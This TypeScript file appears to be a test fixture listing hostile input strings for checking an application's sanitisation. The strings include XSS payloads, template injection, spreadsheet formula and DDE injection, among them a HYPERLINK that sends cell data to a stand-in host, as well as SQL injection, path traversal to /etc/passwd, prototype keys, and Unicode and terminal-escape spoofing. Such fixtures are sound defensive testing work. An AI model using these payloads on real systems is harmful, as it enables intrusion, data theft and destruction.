/** Texts that somebody types, or a program sends, because of what they do where they are not only text. */
export const hostileTexts: Readonly<Record<string, string>> = {
  picture: '<img src=x onerror="window.wasRun=1">',
  script: '</script><script>window.wasRun=1</script>',
  drawing: '<svg/onload=window.wasRun=1>',
  attribute: '" onmouseover="window.wasRun=1" x="',
  address: 'javascript:window.wasRun=1',
  template: '{{constructor.constructor("window.wasRun=1")()}} ${window.wasRun=1} $t(common:save)',
  formula: '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
  command: "=cmd|' /C calc'!A0",
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(1+1)',
  tab: '\t=1+1',
  turned: 'ảnh\u202egpj.exe\u202c \u2066đảo\u2069',
  invisible: 'thư\u200b ký\u2060\ufeff',
  nothing: 'trước\0sau',
  half: 'nửa \ud800 ký tự',
  otherHalf: '\udfff cuối',
  lines: 'một\r\nhai\u2028ba\u2029bốn',
  escape: '\u001b[31mđỏ\u001b]0;tên\u0007',
  quote: "'; DROP TABLE account; --",
  path: '../../../../etc/passwd',
  prototype: '__proto__',
  marks: `a${'\u0301'.repeat(300)}`,
  long: 'dài '.repeat(250_000),
}

/** Those short enough to be sent by the thousand. */
export const shortHostileTexts: readonly string[] = Object.values(hostileTexts).filter(({ length }) => length < 1000)
